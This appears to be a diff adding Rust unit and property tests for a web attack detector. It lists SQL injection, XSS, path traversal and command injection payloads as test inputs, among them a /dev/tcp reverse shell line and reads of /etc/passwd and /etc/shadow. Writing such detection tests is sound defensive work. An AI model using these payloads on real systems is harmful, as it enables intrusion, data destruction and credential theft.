@@ -1,0 +1,137 @@
+use super::*;
+
+fn classes(s: &str) -> Vec<AttackClass> {
+    detect(s).into_iter().map(|f| f.class).collect()
+}
+
+fn has(s: &str, c: AttackClass) -> bool {
+    classes(s).contains(&c)
+}
+
+#[test]
+fn sqli_examples() {
+    for s in [
+        "1 union select 1,2,3--",
+        "' or 1=1--",
+        "admin'--",
+        "1; drop table users",
+        "1 and sleep(5)",
+        "x') or ('a'='a",
+        "1 AND 1=1",
+        "-1 UNION/**/SELECT password FROM users",
+        "1%27%20or%20%271%27%3D%271",
+    ] {
+        assert!(has(s, AttackClass::Sqli), "{s}");
+    }
+}
+
+#[test]
+fn xss_examples() {
+    for s in [
+        "<script>alert(1)</script>",
+        "<img src=x onerror=alert(1)>",
+        "\" onmouseover=\"alert(1)",
+        "<a href=\"javascript:alert(1)\">",
+        "%3Csvg%20onload%3Dalert(1)%3E",
+        "<div style=\"width: expression(alert(1))\">",
+    ] {
+        assert!(has(s, AttackClass::Xss), "{s}");
+    }
+}
+
+#[test]
+fn path_examples() {
+    for s in [
+        "../../etc/passwd",
+        "..%2f..%2fwin.ini",
+        "%c0%ae%c0%ae/%c0%ae%c0%ae/x",
+        "file:///etc/shadow",
+        "..\\..\\boot.ini",
+    ] {
+        assert!(has(s, AttackClass::PathTraversal), "{s}");
+    }
+}
+
+#[test]
+fn cmdi_examples() {
+    for s in [
+        "; cat /etc/passwd",
+        "| whoami",
+        "$(id)",
+        "`uname -a`",
+        "a${IFS}b",
+        "bash -i >& /dev/tcp/1.2.3.4/80 0>&1",
+        "& for %a in (x) do cmd",
+    ] {
+        assert!(has(s, AttackClass::Cmdi), "{s}");
+    }
+}
+
+#[test]
+fn benign_examples() {
+    for s in [
+        "hello world",
+        "John O'Reilly",
+        "Please select pair #1",
+        "2 OR 4 METAL BUTTONS",
+        "3 BY 5 RECIPE CARDS",
+        "rock & roll",
+        "a < b and c > d",
+        "../images/logo.png",
+        "JavaScript: The Good Parts",
+        "100% cotton",
+    ] {
+        assert!(classes(s).is_empty(), "{s}: {:?}", detect(s));
+    }
+}
+
+#[test]
+fn names_and_event_types() {
+    assert_eq!(AttackClass::PathTraversal.as_str(), "path_traversal");
+    assert_eq!(AttackClass::Cmdi.event_type(), EventType::CommandInjectionAttempt);
+    assert_eq!(AttackClass::Sqli.to_string(), "sqli");
+}
+
+#[test]
+fn oversized_inputs_use_a_prefix() {
+    let d = Detector::new(32);
+    let mut s = String::from("<script>alert(1)</script>");
+    s.push_str(&"a".repeat(100));
+    let f = d.detect(&s);
+    assert!(f.iter().any(|f| f.class == AttackClass::Xss && f.oversized));
+    // The attack beyond the prefix is not seen.
+    let late = format!("{}<script>", "a".repeat(100));
+    assert!(d.detect(&late).is_empty());
+    // Multi-byte characters at the cut do not panic.
+    assert!(d.detect(&"é".repeat(40)).is_empty());
+}
+
+mod props {
+    use super::*;
+    use proptest::prelude::*;
+
+    proptest! {
+        #[test]
+        fn never_panics(s in "\\PC{0,200}") {
+            let _ = detect(&s);
+        }
+
+        #[test]
+        fn never_panics_on_attack_alphabet(s in "[%0-9a-fA-Fu<>'\";|&$(){}\\[\\]/\\\\.+#=` \\-*!@]{0,120}") {
+            let f = detect(&s);
+            prop_assert!(f.iter().all(|f| (0.0..=1.0).contains(&f.confidence)));
+        }
+
+        #[test]
+        fn normalisation_is_bounded(s in "[%0-9a-fA-Fu&#;x\\\\lgt+c]{0,200}") {
+            let n = normalise(&s);
+            prop_assert!(n.bytes.len() <= s.len());
+            prop_assert!(n.rounds <= MAX_ROUNDS);
+        }
+
+        #[test]
+        fn normalisation_folds_case(s in "[A-Za-z]{0,50}") {
+            prop_assert_eq!(normalise(&s).text().into_owned(), s.to_ascii_lowercase());
+        }
+    }
+}
